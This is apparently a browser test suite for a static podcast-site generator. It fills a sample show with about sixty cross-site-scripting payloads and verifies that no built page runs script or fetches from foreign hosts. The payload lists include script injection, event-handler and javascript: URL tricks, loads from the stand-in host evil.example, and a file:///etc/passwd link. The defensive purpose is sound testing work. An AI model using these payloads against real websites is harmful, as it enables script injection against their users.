// Sixty ways to make a page run something, each in every place where text can stand: nothing runs,
// nothing is fetched, no element or attribute of theirs is there, and the feed stays XML.
//
//   node payloads.mjs LINER
import {execFileSync, spawn, spawnSync} from 'node:child_process';
import {copyFileSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {fileURLToPath} from 'node:url';

import {chromium} from 'playwright-core';

import {Report} from './report.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const liner = process.argv[2];
const folder = mkdtempSync(path.join(os.tmpdir(), 'liner-payloads-'));
const show = path.join(folder, 'show');
const web = path.join(folder, 'web');
const report = new Report('payloads');

// What runs calls hit(); what is fetched is asked from evil.example.
const payloads = [
  '<script>hit()</script>', '"><script>hit()</script>', "'><script>hit()</script>", '</title><script>hit()</script>',
  '</textarea><script>hit()</script>', '</script><script>hit()</script>', '--><script>hit()</script>',
  ']]><script>hit()</script>', '<![CDATA[<script>hit()</script>]]>', '<ScRiPt>hit()</sCrIpT>', '<script/x>hit()</script>',
  '<script src=//evil.example/x.js></script>', '<<script>hit();//<</script>', '<img src=https://evil.example/x onerror=hit()>',
  '"><img src=x: onerror=hit()>', '<img/src=https://evil.example/y/onerror=hit()>', '" onmouseover="hit()" x="', "' onmouseover='hit()' x='",
  '` onmouseover=`hit()`', '" autofocus onfocus=hit() x="', '<svg onload=hit()>', '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>', '<math><mtext><script>hit()</script></mtext></math>', '<body onload=hit()>',
  '<iframe src=javascript:hit()></iframe>', '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', '<object data=javascript:hit()></object>',
  '<embed src=javascript:hit()>', '<details open ontoggle=hit()><summary>x</summary>y</details>', '<video src=x: onerror=hit()></video>',
  '<audio src=x: onerror=hit()></audio>', '<input autofocus onfocus=hit()>', '<select autofocus onfocus=hit()></select>',
  '<marquee onstart=hit()>x</marquee>', '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example/z)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>', '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<base href=https://evil.example/>', '<form action=javascript:hit()><button>x</button></form>', '<a href=javascript:hit()>x</a>',
  '<a href="java&#115;cript:hit()">x</a>', '<a href="&#x6A;avascript&colon;hit()">x</a>', '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="vbscript:hit()">x</a>', '<b style="background:url(https://evil.example/s)">x</b>', '<p id="main" class="player">x</p>',
  '<table background="https://evil.example/t"><tr><td onclick=hit()>x</td></tr></table>', '{{=<% %>=}}<%{site.title}%>{{{site.description_html}}}',
  '{{#site}}{{{page.title}}}{{/site}}', '&lt;script&gt;hit()&lt;/script&gt;', '&#60;script&#62;hit()&#60;/script&#62;', '%3Cscript%3Ehit()%3C/script%3E',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e', "';hit();//", '";hit();//', '${hit()}', '<!--<img src="--><img src=x: onerror=hit()//">',
  '<noscript><p title="</noscript><img src=x: onerror=hit()>">', '<template><script>hit()</script></template>',
  '<xmp><p title="</xmp><script>hit()</script>">', '\u202E<script>hit()</script>\u202C',
];
// In link targets; the last ones stay links, to a place that is theirs alone.
const targets = ['javascript:hit()', 'JaVaScRiPt:hit()', 'java&#115;cript:hit()', 'javascript&colon;hit()', '&#106;avascript:hit()',
  'data:text/html,hit()', 'vbscript:hit()', 'file:///etc/passwd', 'https://links.example/"onmouseover="hit()',
  "https://links.example/'onmouseover='hit()", 'https://links.example/%22%3E%3Cscript%3Ehit()%3C/script%3E'];

function write(file, text) {
  mkdirSync(path.dirname(path.join(show, file)), {recursive: true});
  writeFileSync(path.join(show, file), text);
}

function episode(payload, number) {
  const text = JSON.stringify(payload);
  const slug = `episode-${number}`;
  const links = targets.map((target) => `[${payload.replace(/[[\]`\\]/g, '')}](<${target}>) ![a](<${target}>)`).join('\n');
  const day = new Date(Date.UTC(2026, 8, 1 + number)).toISOString().slice(0, 10);
  write(`episodes/${slug}/notes.md`, `---
title: ${text}
date: ${day}
summary: ${text}
season: 1
tags: [${text}]
guests: [{name: ${text}, role: guest}]
series: ${JSON.stringify(`Series ${payload}`)}
cover_alt: ${text}
links: [{title: ${text}, link: "https://links.example/"}]
chapters: [{start: 0, title: ${text}}]
soundbites: [{start: 0, duration: 1, title: ${text}}]
---

${payload}

A line with ${payload} in it, **${payload}**, \`${payload.replace(/`/g, '')}\`.

- ${payload}

> ${payload}

# ${payload}

${links}
`);
  write(`episodes/${slug}/transcript.srt`, `1\n00:00:00,000 --> 00:00:02,000\nAna: ${payload}\n\n2\n00:00:02,000 --> 00:00:03,000\nBo: more\n`);
  write(`episodes/${slug}/transcript.de.vtt`, `WEBVTT\n\n00:00.000 --> 00:02.000\n<v ${payload.replace(/[>\n]/g, '')}>${payload.replace(/-->/g, '')}\n`);
  copyFileSync(path.join(folder, 'sound.mp3'), path.join(show, `episodes/${slug}/sound.mp3`));
}

function makeShow() {
  execFileSync('ffmpeg', ['-loglevel', 'error', '-f', 'lavfi', '-i', 'sine=d=4', '-b:a', '96k', path.join(folder, 'sound.mp3')]);
  mkdirSync(show);
  execFileSync('ffmpeg', ['-loglevel', 'error', '-f', 'lavfi', '-i', 'color=c=navy:s=1400x1400', '-frames:v', '1', path.join(show, 'artwork.jpg')]);
  const first = JSON.stringify(payloads[1]);
  write('show.yaml', `title: ${first}\nlink: https://show.example/\ndescription: ${JSON.stringify(payloads.slice(0, 20).join(' '))}
author: ${first}\ncategories: Arts\ncopyright: ${first}\nhosts: [ana]\nmenu: [{title: ${first}, link: episodes/}]
newsletter: {action: "https://l.example/", field: ${first}, text: ${first}, privacy: ${first}, thanks: ${first}}\nseasons: {1: ${first}}
subscribe: {${first}: "https://app.example/"}\nfunding: {url: "https://give.example/", text: ${first}}\n`);
  write('people/ana.md', `---\nname: ${JSON.stringify(payloads[13])}\ncredentials: ${first}\nrole: ${first}\n---\n${payloads.join('\n\n')}\n`);
  write('pages/about.md', `---\ntitle: ${first}\nmenu: true\n---\n${payloads.join(' ')}\n`);
  write('blocks/call.md', `---\nbutton: {title: ${first}, link: "https://links.example/"}\n---\n${payloads.slice(20).join('\n\n')}\n`);
  payloads.forEach(episode);
}

// What a page holds that none of Liner's own pages does.
function strangers() {
  const found = [];
  const known = new Set(['A', 'ARTICLE', 'ASIDE', 'AUDIO', 'B', 'BLOCKQUOTE', 'BODY', 'BR', 'BUTTON', 'CODE', 'DETAILS', 'DIV', 'EM',
    'FIGURE', 'FOOTER', 'FORM', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'HEAD', 'HEADER', 'HTML', 'IMG', 'INPUT', 'LABEL', 'LI', 'LINK', 'MAIN',
    'META', 'NAV', 'OL', 'P', 'SCRIPT', 'SECTION', 'SOURCE', 'SPAN', 'STRONG', 'SUMMARY', 'TABLE', 'TBODY', 'TD', 'TEXTAREA', 'TIME', 'TITLE',
    'TR', 'UL',
    'BDI', 'I', 'LINER-PLAYER', 'OPTION', 'OUTPUT', 'PICTURE', 'SELECT', 'path', 'svg']);
  // What the player's own script sets: where marks stand, how far the bar is filled.
  const ours = (element) => element.closest('.marks') || element.matches('.seek input');
  for (const element of document.querySelectorAll('*')) {
    if (!known.has(element.tagName)) found.push(element.outerHTML.slice(0, 80));
    for (const {name, value} of element.attributes) {
      if (name.startsWith('on') || (name === 'style' && !ours(element)) || name === 'srcdoc' || name === 'background') found.push(`${element.tagName} ${name}`);
      if (['href', 'src', 'action'].includes(name) && /^\s*(javascript|data|vbscript|file):/i.test(value)) found.push(`${name}=${value}`);
    }
    if (element.tagName === 'SCRIPT' && !element.src.includes('/assets/') && element.type !== 'application/ld+json') found.push(element.outerHTML.slice(0, 80));
    if (element.tagName === 'SCRIPT' && element.type === 'application/ld+json') JSON.parse(element.textContent);
    if (element.tagName === 'FORM' && !element.closest('.newsletter, form.search')) found.push('a form');
  }
  return found;
}

// The eye itself: a page that does run something, and holds what it may not.
async function control(page, origin) {
  writeFileSync(path.join(web, 'control.html'), '<!doctype html><title>x</title><p onclick="hit()">x<script>hit()</script>');
  await page.goto(`${origin}/control.html`);
  report.equal('a page that is not clean is seen', [(await page.evaluate(strangers)).length, await page.evaluate(() => window.hits)], [2, 1]);
}

async function look(page, origin) {
  const where = ['', 'episodes/', 'about/', 'people/', 'people/ana/', 'tags/', 'series/', 'subscribe/', 'search/', 'thanks/', 'seasons/1/', '404.html'];
  for (const kind of ['tags', 'series']) {
    for (const entry of readdirSync(path.join(web, kind), {withFileTypes: true})) if (entry.isDirectory()) where.push(`${kind}/${entry.name}/`);
  }
  payloads.forEach((_, number) => where.push(`episodes/episode-${number}/`, `episodes/episode-${number}/embed/`));
  for (const one of where) {
    await page.goto(`${origin}/${one}`);
    const found = await page.evaluate(strangers);
    const hits = await page.evaluate(() => window.hits ?? 0);
    report.check(`/${one} runs nothing and holds nothing strange`, found.length === 0 && hits === 0 && page.foreign.length === 0,
      JSON.stringify([found.slice(0, 5), hits, page.foreign.slice(0, 5)]));
    page.foreign.length = 0;
  }
}

// Titles come back from the index as text.
async function search(page, origin) {
  await page.goto(`${origin}/search/?q=hit`);
  await page.locator('.results li').first().waitFor();
  while (await page.locator('button.more').isVisible()) {
    await page.locator('button.more').click();
    await page.waitForTimeout(50);
  }
  const found = await page.evaluate(strangers);
  report.check('what the search finds runs nothing', found.length === 0 && (await page.evaluate(() => window.hits)) === 0 && page.foreign.length === 0,
    JSON.stringify([found.slice(0, 5), page.foreign.slice(0, 5)]));
  report.check('and it finds payloads', (await page.locator('.results li').count()) > 30, await page.locator('.results li').count());
}

makeShow();
mkdirSync(web);
const server = spawn('/usr/bin/python3', [path.join(here, '../support/serve.py'), web], {stdio: ['pipe', 'pipe', 'inherit']});
const port = await new Promise((resolve) => server.stdout.once('data', (data) => resolve(String(data).trim())));
const origin = `http://127.0.0.1:${port}`;
const built = spawnSync(liner, ['build', show, '--out', web, '--link', `${origin}/`, '--now', '2026-12-01'], {encoding: 'utf8'});
report.equal('there are sixty payloads', payloads.length >= 60, true);
report.check('the show is published', built.status === 0, built.stderr.match(/error\[.*\n.*/g)?.join('; '));
const xml = spawnSync('xmllint', ['--noout', path.join(web, 'feed.xml')], {encoding: 'utf8'});
report.check('the feed is XML', xml.status === 0, xml.stderr);
const browser = await chromium.launch({
  executablePath: '/usr/bin/chromium',
  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync'],
});
try {
  const context = await browser.newContext({serviceWorkers: 'block'});
  await context.addInitScript(() => {
    window.hits = 0;
    window.hit = () => { window.hits += 1; };
  });
  const page = await context.newPage();
  page.foreign = [];
  page.on('dialog', (dialog) => dialog.dismiss());
  // A picture that notes ask for by name is fetched, as readers expect; check warns of it.
  await page.route('https://evil.example/**', (route) => route.abort());
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(origin) && !/^https:\/\/evil\.example\/[xy]/.test(url) && !url.startsWith('https://links.example/')) page.foreign.push(url);
  });
  await control(page, origin);
  await look(page, origin);
  await search(page, origin);
} catch (error) {
  report.check('the suite runs to its end', false, error.stack);
} finally {
  await browser.close();
  server.kill();
  rmSync(folder, {recursive: true, force: true});
}
process.exit(report.failed > 0 || report.count === 0 ? 1 : 0);
